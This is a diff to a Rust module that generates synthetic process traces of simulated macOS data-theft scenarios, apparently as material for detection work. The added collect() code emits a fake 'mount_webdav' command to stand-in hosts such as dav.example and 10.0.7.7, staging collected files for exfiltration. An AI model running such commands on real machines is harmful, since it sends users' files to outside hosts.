@@ -1,6 +1,8 @@
 //! Acting out a plan as lines of a trace.
 
-use super::cast::{BASH, CP, CURL, GZIP, IMPLANTS, LAUNCHD, LN, MV, PYTHON, Program, RM, SCREENCAPTURE, SECURITY, TERMINAL, WEBKIT, ZSH};
+use super::cast::{
+    BASH, CP, CURL, GZIP, IMPLANTS, LAUNCHD, LN, MOUNT, MV, PYTHON, Program, RM, SCREENCAPTURE, SECURITY, TERMINAL, WEBKIT, ZSH,
+};
 use super::random::Random;
 use super::scene::{Moment, SECOND, Scene, delay};
 use super::theft::{Break, Method, Step, Theft};
@@ -93,6 +95,13 @@ impl Play<'_> {
 
     /// Collects. Gives the staged file, and the process that collected if it is still there.
     fn collect(&mut self) -> (String, Option<u32>) {
+        if self.plan.synced == Some("/Volumes/d") {
+            let from =
+                self.random.pick(&["https://dav.example/in", "https://dav.example/in", "http://dav.example/in", "https://10.0.7.7/in"]);
+            let pid = self.scene.spawn(self.now, self.shell, MOUNT, &format!("mount_webdav {from} /Volumes/d"));
+            self.scene.say(self.now + SECOND / 2, &format!("exit {pid}"));
+            self.now += SECOND;
+        }
         let suffix = if self.plan.archive { ".zip" } else { ".dat" };
         let folder = match self.plan.synced {
             Some(folder) => folder,
